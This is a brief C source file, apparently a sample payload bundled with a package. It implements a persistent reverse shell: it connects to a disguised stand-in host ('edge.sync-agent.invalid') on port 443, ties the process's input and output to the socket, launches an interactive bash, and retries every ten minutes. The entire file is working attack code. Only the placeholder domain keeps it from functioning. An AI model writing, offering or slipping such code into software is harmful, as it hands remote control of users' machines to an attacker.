/* A program that a package brings along: keeps a shell open to a host that cannot exist. Never run by anybody. */
#include <netdb.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

void _start(void)
{
    struct addrinfo hints, *found;
    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    while (1) {
        if (getaddrinfo("edge.sync-agent.invalid", "443", &hints, &found) == 0) {
            int line = socket(found->ai_family, SOCK_STREAM, 0);
            if (connect(line, found->ai_addr, found->ai_addrlen) == 0) {
                dup2(line, 0);
                dup2(line, 1);
                dup2(line, 2);
                execl("/bin/bash", "bash", "-i", (char *)0);
            }
        }
        sleep(600);
    }
}
